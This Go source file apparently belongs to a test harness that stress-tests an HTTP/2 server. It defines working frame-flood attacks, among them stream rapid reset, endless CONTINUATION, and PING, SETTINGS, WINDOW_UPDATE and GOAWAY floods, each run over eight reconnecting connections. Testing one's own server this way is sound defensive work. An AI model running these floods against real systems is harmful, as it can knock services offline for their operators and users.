//go:build linux

package main

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attacks with floods of the frames of HTTP/2. Each is on eight connections.
var frameAttacks = []attack{
	flood("h2-reset", "streams that are opened and reset at once", true, func(h *h2conn, _ int) error {
		id, err := h.open("GET", "/events?topic="+controlTopic+"&from=100", true)
		if err == nil {
			err = h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		return err
	}),
	flood("h2-reset-closed", "RST_STREAM for a stream that has ended", true, func(h *h2conn, i int) error {
		if i == 0 {
			return h.get("/style.css")
		}
		return h.fr.WriteRSTStream(1, http2.ErrCodeCancel)
	}),
	flood("h2-requests", "requests with 404 for an answer", true, func(h *h2conn, _ int) error { return h.get("/nowhere") }),
	flood("h2-ping", "PING, without reading the answers", false, func(h *h2conn, _ int) error { return h.fr.WritePing(false, [8]byte{1}) }),
	flood("h2-ping-read", "PING", true, func(h *h2conn, _ int) error { return h.fr.WritePing(false, [8]byte{1}) }),
	flood("h2-ping-ack", "answers to a PING that was not sent", true, func(h *h2conn, _ int) error { return h.fr.WritePing(true, [8]byte{1}) }),
	flood("h2-settings", "SETTINGS, without reading the answers", false, func(h *h2conn, _ int) error { return h.fr.WriteSettings() }),
	flood("h2-settings-read", "SETTINGS that change the table's size", true, func(h *h2conn, i int) error {
		return h.fr.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(i % 4096)})
	}),
	flood("h2-settings-window", "SETTINGS that change the windows of 200 streams", true, func(h *h2conn, i int) error {
		if i < 200 {
			return h.get("/events?topic=nothing.here")
		}
		return h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(1000 + i%1000)})
	}),
	flood("h2-priority", "PRIORITY", true, func(h *h2conn, i int) error {
		return h.fr.WritePriority(uint32(1+2*(i%1000)), http2.PriorityParam{Weight: byte(i)})
	}),
	flood("h2-continuation", "CONTINUATION without an end", true, func(h *h2conn, i int) error {
		if i == 0 {
			return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.fields("GET", "/events"), EndStream: true})
		}
		h.block.Reset()
		h.encoder.WriteField(hpack.HeaderField{Name: fmt.Sprint("x", i), Value: strings.Repeat("v", 100), Sensitive: true})
		return h.fr.WriteContinuation(1, false, h.block.Bytes())
	}),
	flood("h2-continuation-empty", "empty CONTINUATION without an end", true, func(h *h2conn, i int) error {
		if i == 0 {
			return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.fields("GET", "/events"), EndStream: true})
		}
		return h.fr.WriteContinuation(1, false, nil)
	}),
	flood("h2-data-empty", "empty DATA", true, func(h *h2conn, i int) error {
		if i == 0 {
			_, err := h.open("POST", "/topics/frames", false)
			return err
		}
		return h.fr.WriteData(1, false, nil)
	}),
	flood("h2-data-byte", "DATA of one byte", true, func(h *h2conn, i int) error {
		if i%60_000 == 0 {
			_, err := h.open("POST", "/topics/frames", false)
			return err
		}
		return h.fr.WriteData(h.next-2, false, []byte("x"))
	}),
	flood("h2-window", "WINDOW_UPDATE of a connection", true, func(h *h2conn, _ int) error { return h.fr.WriteWindowUpdate(0, 1) }),
	flood("h2-window-stream", "WINDOW_UPDATE of a stream", true, func(h *h2conn, i int) error {
		if i == 0 {
			return h.get("/events?topic=nothing.here")
		}
		return h.fr.WriteWindowUpdate(1, 1)
	}),
	flood("h2-unknown", "frames of an unknown type", true, func(h *h2conn, _ int) error {
		return h.fr.WriteRawFrame(0xbe, 0, 0, bytes.Repeat([]byte("u"), 16))
	}),
	flood("h2-goaway", "GOAWAY", true, func(h *h2conn, _ int) error { return h.fr.WriteGoAway(0, http2.ErrCodeNo, nil) }),
}

// flood returns an attack that sends what send does, again and again. A connection that the
// server ends comes again. read is false for clients that do not read.
func flood(name, what string, read bool, send func(h *h2conn, i int) error) attack {
	return attack{name: name, what: "HTTP/2: " + what, http2: true, run: func(ctx context.Context, t *target) string {
		var sent, ended atomic.Int64
		connections := repeat(ctx, 8, func(_, _ int) {
			h, err := newH2(t)
			if h != nil {
				defer h.leave()
			}
			if err != nil {
				return
			}
			if read {
				h.drain()
			}
			for i := 0; ctx.Err() == nil; i++ {
				if err := send(h, i); err != nil {
					ended.Add(1)
					return
				}
				sent.Add(1)
			}
		})
		return fmt.Sprintf("%d frames on %d connections, %d ended by the server", sent.Load(), connections, ended.Load())
	}}
}
